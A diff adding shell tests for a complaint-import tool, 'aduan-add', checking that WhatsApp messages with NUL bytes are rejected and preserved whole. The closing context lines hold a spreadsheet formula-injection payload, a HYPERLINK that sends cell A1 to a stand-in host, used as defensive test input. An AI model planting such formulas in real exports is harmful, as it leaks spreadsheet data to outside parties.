@@ -48,6 +48,38 @@ whatsapp|28/11/24 14.05 - Warga: lapor jalan rusak satu\000dua|last message, no 
 whatsapp|28/11/24 14.05 - Warga: lapor jalan rusak satu\000dua\n28/11/24 14.09 - Lain: lapor jalan rusak baik satu\n|a message in the middle
 ROWS
 
+# A WhatsApp message with a NUL byte is rejected whatever the words before
+# it say, and nothing of it is lost: --messages and the rejects file keep
+# it whole.  Line 1 starts as chatter ("ok"); lines 3-4 are one complaint
+# whose second message holds the byte.
+printf '28/11/24 14.05 - Warga: ok\000 lampu jalan mati di RT 5 mohon diperbaiki\n28/11/24 14.09 - Lain: lapor jalan rusak di Guntung\n28/11/24 14.10 - Ani: lapor got mampet\n28/11/24 14.11 - Ani: di Guntung\000 RT 3\n' >nul2.txt
+run aduan-add --dry-run --messages --from whatsapp --group G nul2.txt
+is "$rc" 65 "NUL after chatter words: the dry run exits 65"
+like err '^aduan-add: nul2\.txt:1: NUL byte in message$' "NUL after chatter words: rejected at its line, not filtered"
+like err '^aduan-add: nul2\.txt:3: NUL byte in the message of line 4$' \
+	"NUL in the second message of a complaint: its first line and the NUL's named"
+like err '4 messages read, 1 complaints to add, 0 already present, 2 rejected; skipped: 0 system, 0 staff, 0 not matching' \
+	"the summary counts two rejected, none filtered"
+like out '^\{"at":"2024-11-28T14:05","author":"Warga","body":"ok\\u0000 lampu jalan mati di RT 5 mohon diperbaiki",.*"why":"a NUL byte in it"' \
+	"--messages: the whole text, the byte as \\u0000, and why"
+like out '"body":"di Guntung\\u0000 RT 3","kind":"text",.*"decision":"joined"' "--messages: the later message whole too"
+run aduan-add --dry-run --from whatsapp --group G --match banjir nul2.txt
+like err '2 rejected; skipped: 0 system, 0 staff, 1 not matching' "--match does not hide a message with a NUL byte"
+run aduan-add --all --dry-run --from whatsapp --group G nul2.txt
+like err '2 rejected' "nor does --all take it cut short"
+n0=$(count)
+run aduan-add --from whatsapp --group G --rejects nul2.rej nul2.txt
+is "$rc" 65 "NUL: the import exits 65"
+printf '[28/11/2024 14.05] Warga: ok\000 lampu jalan mati di RT 5 mohon diperbaiki\n[28/11/2024 14.10] Ani: lapor got mampet\n[28/11/2024 14.11] Ani: di Guntung\000 RT 3\n' >nul2.want
+cmp -s nul2.rej nul2.want
+ok $? "the rejects file holds both rejected complaints whole, NUL bytes and all"
+is "$(count --search diperbaiki) $(count --search mampet) $(count)" "0 0 $((n0 + 1))" "nothing of them was stored"
+is "$(count --search 'jalan rusak di Guntung')" 1 "the message without a NUL byte was added"
+tr -d '\000' <nul2.rej >nul2.fixed
+run aduan-add -q --from whatsapp --group G nul2.fixed
+is "$rc" 0 "the rejects file with its NUL bytes taken out imports"
+is "$(count --search mampet)" 1 "and the complaint is whole"
+
 # --- summary group names are never formulas, --excel or not ------------------------------
 aduan-add -k Guntung --category '=HYPERLINK("http://x.example/?"&A1,"klik")' "x" >/dev/null 2>&1
 aduan-add -k Guntung --category '@SUM(1+1)' "y" >/dev/null 2>&1
